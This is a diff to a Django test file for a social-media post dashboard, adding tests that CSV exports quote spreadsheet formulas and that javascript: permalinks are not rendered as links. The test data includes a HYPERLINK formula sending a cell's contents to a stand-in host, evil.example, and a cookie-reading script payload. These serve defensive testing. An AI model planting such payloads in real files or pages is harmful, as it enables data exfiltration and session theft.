@@ -9,6 +9,7 @@ from datetime import timedelta
 from itertools import count
 
 import pytest
+from django.conf import settings
 from django.contrib.messages import get_messages
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
@@ -179,7 +180,8 @@ def test_csv_and_xlsx_exports_hold_the_rows(client, people, account):
         csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
     )
     assert rows[0]["Page"] == "Bin day moves"
-    assert rows[0]["Account"] == "@ExampleshireCC"
+    # A leading "@" starts a formula in Excel, so even an X handle is quoted.
+    assert rows[0]["Account"] == "'@ExampleshireCC"
     assert rows[0]["State"] == "Posted"
     assert rows[0]["Likes"] == "12"
 
@@ -410,3 +412,37 @@ def test_next_url_to_another_site_is_ignored(client, people, account):
     response = client.post(action_url(row, "retry"), {"next": "https://evil.example/"})
 
     assert response["Location"] == DASHBOARD
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,2)", "@SUM(1)"]
+
+
+def test_csv_export_writes_formulas_as_text(client, people, account):
+    """A spreadsheet opening the export must show these, not run them (OWASP's
+    CSV injection rule: a leading single quote)."""
+    for formula in FORMULAS:
+        make_row(account, State.FAILED, title=formula, last_error="-2+3")
+    make_row(account, State.FAILED, title="\tTabbed", last_error="\r=1+1")
+    client.force_login(people["comms"])
+
+    response = client.get(DASHBOARD, {"export": "csv"})
+    rows = list(
+        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    )
+
+    assert sorted(row["Page"] for row in rows) == sorted(
+        ["'" + formula for formula in FORMULAS] + ["'\tTabbed"]
+    )
+    assert {row["Last error"] for row in rows} == {"'-2+3", "'\r=1+1"}
+
+
+def test_a_permalink_off_the_platforms_hosts_is_not_a_link(client, people, account):
+    make_row(account, State.POSTED, permalink="javascript:alert(document.cookie)")
+    good = f"{settings.SOCIAL_CHANNELS['x']['WEB_URL']}/council/status/1"
+    make_row(account, State.POSTED, permalink=good)
+    client.force_login(people["comms"])
+
+    html = client.get(DASHBOARD).content.decode()
+
+    assert "javascript:" not in html
+    assert f'href="{good}"' in html
